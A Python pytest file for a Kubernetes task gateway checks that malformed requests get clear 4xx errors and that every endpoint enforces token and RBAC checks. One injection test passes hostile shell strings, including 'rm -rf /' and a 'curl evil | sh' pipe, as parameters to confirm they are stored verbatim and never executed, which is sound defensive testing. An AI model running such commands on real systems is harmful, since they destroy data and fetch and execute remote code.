"""Bad input and access control through the real gateway, operator and API server.

Every bad request gets a 4xx that names the problem (never a 5xx), and nothing already stored
changes. Every endpoint answers 401 without a token and 403 when the cluster's RBAC says no,
including for a token that is allowed in another namespace."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from gateway_harness import TASK_RULES, GatewayProcess, service_account_token
from harness import wait_for
from kubetask.kube import KubeSync, core_path, tasks_path

pytestmark = pytest.mark.timeout(180)


def sim(**spec: Any) -> dict[str, Any]:
    return {"spec": {"type": "sim", **spec}}


RAW = "raw:"  # a body sent as raw bytes, not JSON-encoded
BAD_INPUTS: list[tuple[str, str, str, Any, int, str]] = [
    # (id, method, path under the namespace, body, status, text the error must contain)
    ("malformed-json", "POST", "tasks", RAW + '{"spec": {"type": "sim"', 400, "JSON"),
    ("yaml-not-json", "POST", "tasks", RAW + "spec:\n  type: sim\n", 400, "JSON"),
    ("empty-body", "POST", "tasks", RAW, 422, "body"),
    ("array-body", "POST", "tasks", [1, 2], 422, "body"),
    ("missing-spec", "POST", "tasks", {"name": "x"}, 422, "spec"),
    ("missing-type", "POST", "tasks", {"spec": {"parameters": {}}}, 422, "spec.type"),
    ("type-wrong-type", "POST", "tasks", {"spec": {"type": 5}}, 422, "spec.type"),
    ("unknown-type", "POST", "tasks", {"spec": {"type": "nope"}}, 422, "spec.type"),
    ("uppercase-type", "POST", "tasks", {"spec": {"type": "Sim"}}, 422, "spec.type"),
    ("unknown-queue", "POST", "tasks", sim(queue="missing"), 422, "spec.queue"),
    ("bad-queue-name", "POST", "tasks", sim(queue="Q_1"), 422, "spec.queue"),
    ("unknown-spec-field", "POST", "tasks", sim(image="evil/image:latest"), 422, "spec.image"),
    ("unknown-top-field", "POST", "tasks", {**sim(), "kind": "Pod"}, 422, "kind"),
    ("parameters-not-object", "POST", "tasks", sim(parameters="n=1"), 422, "spec.parameters"),
    ("parameter-wrong-type", "POST", "tasks", sim(parameters={"n": "three"}), 422, "spec.parameters.n"),
    ("parameter-out-of-range", "POST", "tasks", sim(parameters={"n": 101}), 422, "spec.parameters.n"),
    ("parameter-not-in-schema", "POST", "tasks", sim(parameters={"m": 1}), 422, "spec.parameters"),
    ("too-many-parameter-keys", "POST", "tasks", sim(parameters={f"k{i}": i for i in range(65)}), 422, "spec.parameters"),
    ("oversized-parameters", "POST", "tasks", sim(parameters={"n": 1, "blob": "x" * 40_000}), 413, "spec.parameters"),
    ("oversized-body", "POST", "tasks", RAW + "{" + " " * (2 * 1024 * 1024) + "}", 413, ""),
    ("negative-retries", "POST", "tasks", sim(retries=-1), 422, "spec.retries"),
    ("retries-above-limit", "POST", "tasks", sim(retries=5), 422, "spec.retries"),
    ("zero-timeout", "POST", "tasks", sim(timeoutSeconds=0), 422, "spec.timeoutSeconds"),
    ("absurd-timeout", "POST", "tasks", sim(timeoutSeconds=10**12), 422, "spec.timeoutSeconds"),
    ("bad-cpu", "POST", "tasks", sim(resources={"cpu": "lots"}), 422, "spec.resources.cpu"),
    ("negative-memory", "POST", "tasks", sim(resources={"memory": "-1Gi"}), 422, "spec.resources.memory"),
    ("cpu-above-limit", "POST", "tasks", sim(resources={"cpu": "64"}), 422, "spec.resources.cpu"),
    ("negative-gpu", "POST", "tasks", sim(resources={"gpu": -1}), 422, "spec.resources.gpu"),
    ("absurd-gpu", "POST", "tasks", sim(resources={"gpu": 10**6}), 422, "spec.resources.gpu"),
    ("priority-out-of-range", "POST", "tasks", sim(priority=10**6), 422, "spec.priority"),
    ("exit-code-zero", "POST", "tasks", sim(nonRetryableExitCodes=[0]), 422, "spec.nonRetryableExitCodes"),
    ("negative-ttl", "POST", "tasks", sim(ttlSecondsAfterFinished=-1), 422, "spec.ttlSecondsAfterFinished"),
    ("cancel-at-submit", "POST", "tasks", sim(cancel=True), 422, "spec.cancel"),
    ("invalid-name", "POST", "tasks", {**sim(), "name": "Not_A_Name"}, 422, "name"),
    ("too-long-name", "POST", "tasks", {**sim(), "name": "n" * 64}, 422, "name"),
    ("reserved-label", "POST", "tasks", {**sim(), "labels": {"kubetask.io/task": "x"}}, 422, "labels"),
    ("bad-label-value", "POST", "tasks", {**sim(), "labels": {"a": "not valid!"}}, 422, "labels"),
    ("reserved-annotation", "POST", "tasks", {**sim(), "annotations": {"kubetask.io/submitted-by": "admin"}}, 422, "annotations"),
    ("batch-empty", "POST", "./tasks:batch", {"items": []}, 422, "items"),
    ("batch-one-invalid", "POST", "./tasks:batch", {"items": [sim(parameters={"n": 1}), sim(parameters={"n": -5})]}, 422, "spec.parameters.n"),
    ("get-invalid-name", "GET", "tasks/Bad_Name", None, 422, "name"),
    ("get-missing", "GET", "tasks/does-not-exist", None, 404, "does-not-exist"),
    ("cancel-missing", "POST", "tasks/does-not-exist:cancel", None, 404, "does-not-exist"),
    ("retry-while-pending", "POST", "tasks/stored:retry", None, 409, ""),
    ("list-bad-selector", "GET", "tasks?labelSelector=a%20in%20(b", None, 422, "labelSelector"),
    ("list-bad-phase", "GET", "tasks?phase=Exploded", None, 422, "phase"),
    ("list-bad-limit", "GET", "tasks?limit=-3", None, 422, "limit"),
    ("list-bad-continue", "GET", "tasks?continue=not-a-token", None, 422, "continue"),
]


@pytest.fixture
def stored(gateway: GatewayProcess, kube: KubeSync, sim_namespace: str, token: str) -> dict[str, Any]:
    """A Task that exists before the bad requests (in a paused queue, so it stays put)."""
    paused = kube.patch(tasks_path(sim_namespace, "default", plural="taskqueues"), {"spec": {"paused": True}})
    # The operator has seen the pause once the queue's status reports that generation.
    wait_for(lambda: kube.get(tasks_path(sim_namespace, "default", plural="taskqueues")).get("status", {}).get("observedGeneration")
             == paused["metadata"]["generation"], what="operator saw the pause")
    response = httpx.post(f"{gateway.url}/api/v1/namespaces/{sim_namespace}/tasks", json={"name": "stored", **sim(parameters={"n": 1})},
                          headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert response.status_code == 201, response.text
    return wait_for(lambda: (t := kube.get(tasks_path(sim_namespace, "stored"))).get("status", {}).get("phase") == "Queued" and t,
                    what="stored Task queued")


def test_bad_input_table(gateway: GatewayProcess, kube: KubeSync, sim_namespace: str, token: str, stored: dict[str, Any]) -> None:
    assert len(BAD_INPUTS) >= 40
    headers = {"Authorization": f"Bearer {token}"}
    failures = []
    with httpx.Client(base_url=f"{gateway.url}/api/v1/namespaces/{sim_namespace}/", headers=headers, timeout=30) as client:
        for case, method, path, body, status, needle in BAD_INPUTS:
            if isinstance(body, str) and body.startswith(RAW):
                response = client.request(method, path, content=body[len(RAW):].encode(), headers={"Content-Type": "application/json"})
            else:
                response = client.request(method, path, json=body) if body is not None else client.request(method, path)
            try:
                error = response.json()["error"]
                text = error["message"] + " " + json.dumps(error["details"])
                ok = response.status_code == status and needle in text
            except (ValueError, KeyError, TypeError):
                ok, text = False, response.text[:300]
            if not ok or response.status_code >= 500:
                failures.append(f"{case}: got {response.status_code} {text[:300]!r}, wanted {status} naming {needle!r}")
    assert not failures, "\n".join(failures)
    # Nothing stored changed, nothing new was created.
    names = [t["metadata"]["name"] for t in kube.get(tasks_path(sim_namespace))["items"]]
    assert names == ["stored"]
    after = kube.get(tasks_path(sim_namespace, "stored"))
    assert after["spec"] == stored["spec"]
    assert after["metadata"].get("labels") == stored["metadata"].get("labels")
    assert after["metadata"]["generation"] == stored["metadata"]["generation"]


def test_injection_like_parameters_reach_the_handler_as_data(gateway: GatewayProcess, kube: KubeSync, sim_namespace: str, token: str) -> None:
    """Shell and template metacharacters are stored and delivered verbatim (env and file), never
    interpreted: the Job's command comes only from the TaskType."""
    register_text_type = {"apiVersion": "kubetask.io/v1alpha1", "kind": "TaskType", "metadata": {"name": "text"},
                          "spec": {"image": "example.invalid/handler:1", "command": ["handler"]}}
    kube.create(tasks_path(sim_namespace, plural="tasktypes"), register_text_type)
    nasty = {"cmd": "$(rm -rf /); `reboot`; echo ${HOME} && curl evil | sh", "tpl": "{{ .Values }} ${{ secrets }} %s %n",
             "quote": "'\"\\", "nul-ish": "\u0000\u202e", "yaml": "key: [a, b]\n- c"}
    response = httpx.post(f"{gateway.url}/api/v1/namespaces/{sim_namespace}/tasks",
                          json={"name": "nasty", "spec": {"type": "text", "parameters": nasty}},
                          headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert response.status_code == 201, response.text
    assert kube.get(tasks_path(sim_namespace, "nasty"))["spec"]["parameters"] == nasty
    job = wait_for(lambda: kube.get(core_path("jobs", sim_namespace, group="batch"), labelSelector="kubetask.io/task=nasty")["items"],
                   what="Job")[0]
    container = job["spec"]["template"]["spec"]["containers"][0]
    assert container["command"] == ["handler"] and "args" not in container
    env = {e["name"]: e["value"] for e in container["env"]}
    assert json.loads(env["KUBETASK_PARAMETERS"]) == nasty
    assert json.loads(job["spec"]["template"]["metadata"]["annotations"]["kubetask.io/parameters"]) == nasty


ENDPOINTS: list[tuple[str, str, Any]] = [
    ("POST", "tasks", sim(parameters={"n": 1})),
    ("POST", "tasks:batch", {"items": [sim(parameters={"n": 1})]}),
    ("GET", "tasks", None),
    ("GET", "tasks:watch", None),
    ("GET", "tasks/target", None),
    ("GET", "tasks/target:watch", None),
    ("POST", "tasks/target:cancel", None),
    ("POST", "tasks/target:retry", None),
    ("GET", "tasks/target/log", None),
    ("GET", "tasktypes", None),
    ("GET", "tasktypes/sim", None),
    ("GET", "taskqueues", None),
    ("GET", "taskqueues/default", None),
]


def _status(client: httpx.Client, method: str, path: str, body: Any, headers: dict[str, str]) -> int:
    with client.stream(method, path, json=body, headers=headers) as response:  # streams: read only the status
        return response.status_code


def test_every_endpoint_needs_a_token_and_the_clusters_permission(gateway: GatewayProcess, kube: KubeSync, sim_namespace: str,
                                                                  other_namespace: str, token: str) -> None:
    kube.create(tasks_path(sim_namespace), {"apiVersion": "kubetask.io/v1alpha1", "kind": "Task", "metadata": {"name": "target"},
                                            "spec": {"type": "sim"}})
    nobody = service_account_token(kube, sim_namespace, "nobody")  # authenticated, no RBAC at all
    problems = []
    with httpx.Client(base_url=gateway.url, timeout=30) as client:
        for method, path, body in ENDPOINTS:
            mine, theirs = f"/api/v1/namespaces/{sim_namespace}/{path}", f"/api/v1/namespaces/{other_namespace}/{path}"
            checks = [
                ("no token", mine, {}, 401),
                ("garbage token", mine, {"Authorization": "Bearer not-a-token"}, 401),
                ("no RBAC", mine, {"Authorization": f"Bearer {nobody}"}, 403),
                ("other namespace", theirs, {"Authorization": f"Bearer {token}"}, 403),
            ]
            for what, url, headers, wanted in checks:
                got = _status(client, method, url, body, headers)
                if got != wanted:
                    problems.append(f"{method} {path} with {what}: {got}, wanted {wanted}")
    assert not problems, "\n".join(problems)
    # And the same token is allowed where its Role is.
    allowed = httpx.get(f"{gateway.url}/api/v1/namespaces/{sim_namespace}/tasks/target", headers={"Authorization": f"Bearer {token}"})
    assert allowed.status_code == 200
    assert TASK_RULES  # the Role that token carries (see gateway_harness)
